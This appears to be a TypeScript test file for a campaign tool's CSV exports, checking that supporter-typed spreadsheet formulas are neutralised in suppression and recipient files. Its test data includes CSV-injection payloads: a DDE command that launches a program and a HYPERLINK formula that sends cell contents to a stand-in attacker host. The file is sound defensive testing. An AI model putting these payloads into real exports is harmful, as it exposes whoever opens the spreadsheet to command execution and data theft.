import { readdirSync, readFileSync } from 'node:fs';
import path from 'node:path';
import { text } from 'node:stream/consumers';
import { parse } from 'csv-parse/sync';
import { describe, expect, test } from 'vitest';
import { recipientsCsv } from '../../../src/campaign/recipients-csv.ts';
import type { Suppression } from '../../../src/ledger/ledger.ts';
import { suppressionsCsv } from '../../../src/suppressions/export-suppressions.ts';

const FORMULAS = [
  "=cmd|'/C calc'!A0",
  '=HYPERLINK("https://evil.example.net?x="&A1,"Click")',
  '+1+1',
  '-2+3',
  '@SUM(1+1)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '＝1+1',
  "'=1+1",
];
const RUNS = /^[=+\-@\t\r\n＝＋－＠]/;

async function* each<T>(values: readonly T[]): AsyncGenerator<T> {
  yield* values;
}

/** The cells of a file that Outcry wrote; only the first line is its own. */
function cellsOf(csv: string): string[] {
  const rows: string[][] = parse(csv, { bom: true });
  return rows.slice(1).flat();
}

describe('a formula that a supporter typed runs in no spreadsheet', () => {
  test.each(FORMULAS)('of suppressions: %j', async (formula) => {
    const one = {
      email: formula,
      reason: 'unsubscribed',
      at: 0,
      campaign: formula,
      detail: formula,
    };
    const cells = cellsOf(await text(suppressionsCsv(each([one as Suppression]), { bom: true })));
    expect(cells.filter((cell) => RUNS.test(cell))).toEqual([]);
    expect(cells.filter((cell) => cell.includes(formula))).toHaveLength(3);
  });

  test.each(FORMULAS)('of recipients: %j', async (formula) => {
    const row = {
      email: formula,
      fields: { first_name: formula },
      state: 'invalid',
      reason: formula,
    };
    const csv = recipientsCsv(['first_name'], each([row as never]), { bom: true });
    const cells = cellsOf(await text(csv));
    expect(cells.filter((cell) => RUNS.test(cell))).toEqual([]);
    expect(cells.filter((cell) => cell.includes(formula))).toHaveLength(3);
  });

  test('of whatever else we write: no file of ours makes CSV without the guard', () => {
    const files = readdirSync('src', { recursive: true, encoding: 'utf8' });
    const sources = files
      .filter((file) => file.endsWith('.ts'))
      .map((file) => [file, readFileSync(path.join('src', file), 'utf8')] as const)
      .filter(([, code]) => code.includes("from 'csv-stringify"));
    expect(sources.length).toBeGreaterThan(2);
    for (const [file, code] of sources) {
      expect([file, /withGuard[()]|escape_formulas: true/.test(code)]).toEqual([file, true]);
    }
  });
});
